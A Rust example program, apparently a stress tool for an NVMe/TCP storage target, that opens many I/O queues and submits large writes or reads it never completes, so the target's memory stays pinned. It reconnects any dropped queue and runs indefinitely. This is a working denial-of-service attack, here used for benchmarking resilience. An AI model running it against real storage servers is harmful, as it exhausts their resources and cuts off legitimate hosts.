//! Hosts that keep a target's memory: for the benchmarks of an honest host beside them.
//!
//! `stalled ADDRESS:PORT NQN QUEUES write|read` connects QUEUES I/O queues, up to 100 a controller. Each submits 127
//! commands of 128 KiB, and then nothing: writes whose data it does not send, or reads whose answers it does not
//! receive. A queue that the target closes is connected again. It prints `stalled` when all have submitted their
//! commands, and runs until it is killed.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use rustix::event::{PollFd, PollFlags, Timespec};
use wire_nvme::fabrics::{CONNECT_DATA_SIZE, Connect, ConnectData, ConnectResponse, PropertySet};
use wire_nvme::io::ReadWrite;
use wire_nvme::opcode::NvmOpcode;
use wire_nvme::registers::offset;
use wire_nvme::tcp::{CAPSULE_CMD_SIZE, CapsuleCmd, CapsuleResp, Framing, IC_SIZE, IcReq, SHORT_SIZE};
use wire_nvme::{Cqe, DataPointer, Sqe};

type ExampleError = Box<dyn std::error::Error>;

const HOST: &str = "nqn.2026-11.io.ringbolt:stalled";
const QUEUES_PER_CONTROLLER: u16 = 100;
const ENTRIES: u32 = 128;
const BYTES: u32 = 128 << 10;
/// Value of CC that enables a controller.
const ENABLE: u64 = 0x0046_0001;
const ANSWER_TIMEOUT: Duration = Duration::from_secs(10);
/// Between two checks of all queues: an attack that costs the attacker little.
const CHECK_INTERVAL: Duration = Duration::from_millis(20);

/// The target, and what is submitted to it.
struct Attack {
    address: SocketAddr,
    nqn: String,
    opcode: NvmOpcode,
}

/// A controller with its queues; `None` is one that could not be connected.
struct StalledController {
    admin: TcpStream,
    cntlid: u16,
    host_id: [u8; 16],
    queues: Vec<Option<TcpStream>>,
}

fn capsule(sqe: Sqe, data: &[u8]) -> Vec<u8> {
    let mut header = [0; CAPSULE_CMD_SIZE];
    CapsuleCmd { sqe, data_length: data.len() as u32 }.encode(&Framing::PLAIN, &mut header);
    [&header[..], data].concat()
}

fn command(stream: &mut TcpStream, sqe: Sqe, data: &[u8]) -> Result<Cqe, ExampleError> {
    stream.write_all(&capsule(sqe, data))?;
    let mut answer = [0; SHORT_SIZE];
    stream.read_exact(&mut answer)?;
    let cqe = CapsuleResp::decode(&answer);
    if cqe.status.is_success() { Ok(cqe) } else { Err(format!("{:?}", cqe.status).into()) }
}

impl Attack {
    /// A connection after Connect, and the controller that it belongs to.
    fn connect(&self, qid: u16, cntlid: u16, host_id: [u8; 16]) -> Result<(TcpStream, u16), ExampleError> {
        let mut stream = TcpStream::connect_timeout(&self.address, ANSWER_TIMEOUT)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(ANSWER_TIMEOUT))?;
        let mut pdu = [0; IC_SIZE];
        let request =
            IcReq { host_data_alignment_bytes: 4, header_digest: false, data_digest: false, r2t_max: 1 };
        request.encode(&mut pdu);
        stream.write_all(&pdu)?;
        stream.read_exact(&mut pdu)?;
        let connect = Connect {
            record_format: 0,
            qid,
            queue_entries: if qid == 0 { 32 } else { ENTRIES },
            attributes: Default::default(),
            kato_ms: 0,
        };
        let mut data = [0; CONNECT_DATA_SIZE];
        let (subnqn, hostnqn) = (self.nqn.parse()?, HOST.parse()?);
        ConnectData { host_id, cntlid, subnqn, hostnqn }.encode(&mut data);
        let sqe = Sqe { data: DataPointer::capsule(0, data.len() as u32), ..connect.to_sqe() };
        let answer = command(&mut stream, sqe, &data)?;
        Ok((stream, ConnectResponse::from_result(answer.result).cntlid))
    }

    fn controller(&self, number: u16, queues: u16) -> Result<StalledController, ExampleError> {
        let mut host_id = [0x5a; 16];
        host_id[..2].copy_from_slice(&number.to_le_bytes());
        let (mut admin, cntlid) = self.connect(0, 0xffff, host_id)?;
        let enable = PropertySet { wide: false, offset: offset::CC, value: ENABLE };
        command(&mut admin, enable.to_sqe(), &[])?;
        let queues = (0..queues).map(|_| None).collect();
        Ok(StalledController { admin, cntlid, host_id, queues })
    }

    /// An I/O queue that has submitted all of its commands.
    fn queue(&self, controller: &StalledController, qid: u16) -> Result<TcpStream, ExampleError> {
        let (mut stream, _) = self.connect(qid, controller.cntlid, controller.host_id)?;
        let io = ReadWrite { blocks: BYTES / 512, ..ReadWrite::default() }.to_sqe(self.opcode);
        let commands = (0..ENTRIES as u16 - 1)
            .flat_map(|cid| capsule(Sqe { cid, nsid: 1, data: DataPointer::transport(BYTES), ..io }, &[]));
        stream.write_all(&commands.collect::<Vec<u8>>())?;
        Ok(stream)
    }

    /// Connects what is missing. Returns whether everything is connected; a target that refuses is asked again later.
    fn restore(&self, controller: &mut StalledController, number: u16) -> bool {
        if is_closed(&controller.admin) {
            let queues = controller.queues.len() as u16;
            match self.controller(number, queues) {
                Ok(new) => *controller = new,
                Err(_) => return false,
            }
        }
        let mut complete = true;
        for index in 0..controller.queues.len() {
            if controller.queues[index].as_ref().is_none_or(is_closed) {
                controller.queues[index] = self.queue(controller, index as u16 + 1).ok();
                complete &= controller.queues[index].is_some();
            }
        }
        complete
    }
}

/// Whether the target has closed a connection, however much it has sent before. Nothing is received.
fn is_closed(stream: &TcpStream) -> bool {
    let closed = PollFlags::RDHUP | PollFlags::HUP | PollFlags::ERR;
    let mut descriptors = [PollFd::new(stream, closed)];
    match rustix::event::poll(&mut descriptors, Some(&Timespec::default())) {
        Ok(_) => descriptors[0].revents().intersects(closed),
        Err(_) => true,
    }
}

fn main() -> Result<(), ExampleError> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let [address, nqn, queues, kind] = &arguments[..] else {
        return Err("usage: stalled ADDRESS:PORT NQN QUEUES write|read".into());
    };
    let opcode = if kind == "read" { NvmOpcode::Read } else { NvmOpcode::Write };
    let attack = Attack { address: address.parse()?, nqn: nqn.clone(), opcode };
    let queues: u16 = queues.parse()?;
    let mut controllers = Vec::new();
    for number in 0..queues.div_ceil(QUEUES_PER_CONTROLLER) {
        let count = QUEUES_PER_CONTROLLER.min(queues - number * QUEUES_PER_CONTROLLER);
        controllers.push(attack.controller(number, count)?);
    }
    let mut announced = false;
    loop {
        let mut complete = true;
        for (number, controller) in controllers.iter_mut().enumerate() {
            complete &= attack.restore(controller, number as u16);
        }
        if complete && !announced {
            println!("stalled");
            announced = true;
        }
        std::thread::sleep(CHECK_INTERVAL);
    }
}
